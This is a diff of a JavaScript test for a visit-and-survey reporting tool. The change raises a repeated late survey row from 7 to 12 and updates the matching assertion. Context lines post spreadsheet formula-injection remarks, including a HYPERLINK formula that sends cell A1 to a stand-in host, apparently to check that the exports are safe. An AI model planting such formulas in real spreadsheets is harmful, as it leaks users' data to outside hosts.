@@ -85,7 +85,7 @@ test('workbook and CSV hold what the figures rest on, with what was said, as the
   const visits = JSON.parse(await ok(['visit', 'list', '--json', ...data])).filter((v) => counters.some((c) => c.code === v.counter) && v.date.startsWith('2026-09'));
   await ok(['visit', 'import', '--replace', '-', ...data], { input: `counter,date,visits\n${visits.slice(0, 3).map((v) => `${v.counter},${v.date},${v.visits + 9}\n`).join('')}` });
   await ok(['counter', 'move', counters[1].code, '--to', 'xa-vi-du-ca', '--from', '2026-09-10', ...data]);
-  await ok(['import', '--survey', 'sipas-quick', '-', ...data], { input: `date,counter,channel,language,II.5.0\n${`2026-09-05,${counters[0].code},paper,vi,5\n`.repeat(7)}` }); // two months after its day
+  await ok(['import', '--survey', 'sipas-quick', '-', ...data], { input: `date,counter,channel,language,II.5.0\n${`2026-09-05,${counters[0].code},paper,vi,5\n`.repeat(12)}` }); // two months after its day
   const long = `Đông người nộp hồ sơ trong tuần đầu tháng,\nthiếu hai người ở bàn hướng dẫn; ${'đã bố trí thêm ghế, quạt và người trực (minh họa). '.repeat(38)}`.slice(0, 1990).trim();
   const texts = { 'I.1': '=HYPERLINK("http://x.example/?"&A1;"xem") Đặng Thị Ừng', 'I.2': '＝SUM(A1:A9) ông/bà', 'II.7': long };
   for (const [code, text] of Object.entries(texts)) {
@@ -94,7 +94,7 @@ test('workbook and CSV hold what the figures rest on, with what was said, as the
     assert.equal((await who.post(path, { ...fields, csrf: hidden(body, 'csrf'), text })).status, 303, code);
   }
   const page = await who.get(at('')), document = JSON.parse((await who.get(at('.json'))).body), csv = (await who.get(at('.csv'))).body;
-  assert.deepEqual(document.periods[0].late, { responses: 7 });
+  assert.deepEqual(document.periods[0].late, { responses: 12 });
   assert.deepEqual([document.remarks.length, document.moves.length, document.periods[0].need.visits_revised.cells], [3, 1, 3]);
   const ask = { [join(d.dir, 'one.xlsx')]: at('.xlsx'), [join(d.dir, 'linked.xlsx')]: /href="?([^"> ]+report\.xlsx[^"> ]*)/.exec(page.body)[1].replaceAll('&amp;', '&') };
   for (const [file, path] of Object.entries(ask)) writeFileSync(file, (await who.get(path)).bytes);
